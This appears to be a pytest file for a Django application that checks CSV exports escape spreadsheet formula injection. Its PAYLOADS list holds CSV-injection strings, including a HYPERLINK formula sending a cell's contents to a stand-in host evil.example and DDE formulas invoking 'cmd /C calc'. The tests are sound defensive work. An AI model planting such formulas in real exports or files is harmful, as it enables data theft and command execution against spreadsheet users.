"""CSV exports cannot carry live spreadsheet formulas (CSV injection)."""

import csv
import io

import pytest
from django.urls import reverse

from relais.accounts.models import Role
from relais.audit.services import audit_record
from relais.core.csv_safety import csv_safe, safe_writer
from relais.indicators.exports import table_csv
from relais.indicators.tables import DataTable
from tests import factories as f

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_it_prefixes_every_formula_start_with_an_apostrophe(payload):
    assert csv_safe(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Durand", "91-K7QF2M", "", "-3,5", "+2", "-1 234,5", 12, -4.5])
def test_it_keeps_plain_text_and_numbers(value):
    assert csv_safe(value) == value


def test_it_writes_safe_rows():
    out = io.StringIO()
    safe_writer(out, delimiter=";").writerow(["=1+1", "ok", -2])
    assert out.getvalue().strip() == "'=1+1;ok;-2"


@pytest.mark.django_db
def test_it_exports_the_audit_trail_without_live_formulas(client, sas91, olivia):
    admin = f.member(f.UserFactory(username="adele"), Role.ADMIN, sas_obj=sas91)
    for payload in PAYLOADS:
        audit_record(user=olivia, action="read", object_type="x", object_id="1", reason=payload)
    client.force_login(admin)
    response = client.get(reverse("audit:export"))
    rows = list(csv.reader(io.StringIO(response.content.decode()), delimiter=";"))
    reasons = [row[7] for row in rows[1:] if row[4] == "read"]
    assert sorted(reasons) == sorted("'" + p for p in PAYLOADS)
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row
    )


def test_it_exports_indicator_tables_without_live_formulas():
    table = DataTable(
        slug="t", title="t", columns=["CPTS", "n"], rows=[['=HYPERLINK("x")', 3], ["A", -2.5]]
    )
    text = table_csv(table).decode("utf-8-sig")
    assert "'=HYPERLINK" in text and "\r\nA;-2,5" in text
